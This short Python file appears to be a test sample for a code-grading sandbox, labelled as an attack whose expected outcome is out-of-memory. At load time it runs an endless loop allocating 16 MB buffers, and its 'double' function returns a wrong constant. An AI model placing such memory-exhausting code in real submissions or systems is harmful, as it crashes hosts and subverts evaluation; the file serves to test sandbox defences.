# task: double
# outcome: out_of_memory
# attack: takes memory without end while it is loaded
kept = []
while True:
    kept.append(bytearray(1 << 24))


def double(x):
    return 2
